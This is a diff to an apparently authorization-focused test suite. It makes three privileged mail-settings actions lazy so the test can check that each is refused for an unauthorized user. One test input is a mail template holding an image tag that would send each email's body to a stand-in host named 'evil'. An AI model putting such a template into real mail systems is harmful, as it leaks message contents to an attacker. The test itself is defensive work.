@@ -151,11 +151,12 @@ describe('nobody else does: every link to a new password, the supervisor’s too
     expect((await vera.run(getMailSettings, {})).can).toEqual({ edit: true })
     const version = await versionNow()
     const deeds = [
-      adam.run(updateMailServer, { version, server, password: 'right', ...sender }),
-      adam.run(updateMailTemplate, { version, template: { html: '<img src="//evil/{{body}}">', text: '{{body}}' } }),
-      adam.run(sendTestMail, { to: 'adam@larkfield.example', server, password: 'right', ...sender }),
+      () => adam.run(updateMailServer, { version, server, password: 'right', ...sender }),
+      () =>
+        adam.run(updateMailTemplate, { version, template: { html: '<img src="//evil/{{body}}">', text: '{{body}}' } }),
+      () => adam.run(sendTestMail, { to: 'adam@larkfield.example', server, password: 'right', ...sender }),
     ]
-    for (const deed of deeds) expect(await refusalOf(deed)).toMatchObject({ kind: 'forbidden' })
+    for (const deed of deeds) expect(await refusalOf(deed())).toMatchObject({ kind: 'forbidden' })
     expect(received).toEqual([])
   })
 
